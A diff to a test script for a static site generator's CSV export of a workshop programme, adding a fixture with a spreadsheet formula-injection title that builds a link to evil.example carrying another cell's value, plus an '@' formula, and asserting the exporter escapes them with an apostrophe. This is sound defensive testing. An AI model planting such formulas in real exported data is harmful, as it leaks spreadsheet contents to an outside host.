@@ -32,6 +32,18 @@ fin: "16:30"
 lieu: {nom: École, lat: 47.34, lon: 0.58}
 ---
 EOS
+# A title and a place a spreadsheet would run as formulas (CSV injection),
+# west of Greenwich (a negative number stays a number).
+cat >content/ateliers/vider-la-mare.md <<'EOS'
+---
+titre: '=HYPERLINK("https://evil.example/?"&A2;"Inscription")'
+edition: 2026
+date: 2026-05-23
+debut: "09:00"
+fin: "12:00"
+lieu: {nom: '@SOMME(A1:A9)', lat: 47.33, lon: -0.58}
+---
+EOS
 commit_all "$R" "Données ouvertes"
 "$FABRIQUE" build content --out "$WORK/out" -q 2>"$WORK/.err"
 status "the example site builds" 0 $?
@@ -101,6 +113,20 @@ assert row["begin"] == "2026-05-23T09:00:00+02:00" and row["latitude"] == "47.34
 assert row["registration_email"] == "journee-citoyenne@saint-aubin-des-levees.example"
 assert "\r\n" in rawcsv
 print("ok - programme.csv: one row per workshop, RFC 4180 quoting read back by csv (strict)")
+
+mare = [r for r in body if r[head.index("page_url")].endswith("/vider-la-mare/")]
+assert len(mare) == 1, [r[head.index("page_url")] for r in body]
+mare = dict(zip(head, mare[0]))
+hostile = '=HYPERLINK("https://evil.example/?"&A2;"Inscription")'
+assert ev["vider-la-mare"]["title"] == hostile, ev["vider-la-mare"]["title"]
+assert mare["title"] == "'" + hostile, mare["title"]
+assert mare["location_name"] == "'@SOMME(A1:A9)", mare["location_name"]
+assert mare["longitude"] == "-0.58" and mare["latitude"] == "47.33", (mare["longitude"], mare["latitude"])
+assert mare["registration_phone"] == row["registration_phone"] and mare["registration_phone"][:1].isdigit()
+for r in body:
+    for cell in r:
+        assert cell[:1] not in ("=", "@"), cell
+print("ok - programme.csv: a cell a spreadsheet would run as a formula starts with an apostrophe; numbers and programme.json as written")
 EOS
 $PY "$WORK/check.py" "$O" "$SCHEMA" content || not_ok "programme.json checks (see above)"
 
